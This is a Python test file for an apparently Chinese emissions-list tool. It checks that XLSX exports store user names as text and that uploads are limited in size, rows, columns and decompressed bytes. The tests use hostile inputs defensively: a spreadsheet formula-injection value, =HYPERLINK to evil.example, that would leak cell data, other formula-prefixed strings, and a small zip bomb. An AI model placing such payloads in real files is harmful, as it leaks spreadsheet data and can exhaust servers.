"""XLSX exports never turn user text into a formula; XLSX uploads are bounded before parsing."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook, load_workbook

from cets.core.uploads import problems_capped, xlsx_open
from cets.parties.list_files import ListRow, write_list_xlsx


def test_list_export_writes_a_malicious_name_as_text():
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [ListRow(2024, "37", "济南市", "power", name, "913700001630435316", "山东省生态环境厅", None)
            for name in (evil, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "正常名称")]
    wb = load_workbook(io.BytesIO(write_list_xlsx(rows, sector_names={"power": "发电"})))
    names = [r[5] for r in wb.active.iter_rows(min_row=2, values_only=True)]
    assert names[:5] + names[6:] == [evil, "+1+1", "-2", "@SUM(A1)", "\tx", "正常名称"]  # (XML turns CR into LF)
    for row in wb.active.iter_rows(min_row=2, max_col=6, min_col=6):
        assert row[0].data_type == "s"
    # and in the raw sheet XML there is no formula element at all
    raw = zipfile.ZipFile(io.BytesIO(write_list_xlsx(rows, sector_names={"power": "发电"}))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


def _xlsx(rows: int, cols: int) -> bytes:
    wb = Workbook()
    for r in range(rows):
        wb.active.append([1] * cols)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_upload_bounds():
    assert xlsx_open(_xlsx(3, 3), file_name="ok.xlsx")[1] == []
    assert "S0201" in xlsx_open(_xlsx(3, 3), file_name="f", max_bytes=100)[1][0].en
    assert "S0202" in xlsx_open(_xlsx(30, 2), file_name="f", max_rows=10)[1][0].en
    assert "S0203" in xlsx_open(_xlsx(2, 30), file_name="f", max_cols=10)[1][0].en
    assert "S0205" in xlsx_open(b"not a zip", file_name="f")[1][0].en
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/big.xml", b"0" * 5_000_000)
    assert "S0204" in xlsx_open(bomb.getvalue(), file_name="bomb.xlsx", max_uncompressed=1_000_000)[1][0].en


def test_problem_list_capped_with_a_count():
    from cets.core.errors import InputProblem

    many = [InputProblem("f", i, "", "", "错", "bad") for i in range(1, 1001)]
    capped = problems_capped(many, limit=100)
    assert len(capped) == 101
    assert capped[-1].value == "900"
    assert "900 more" in capped[-1].en
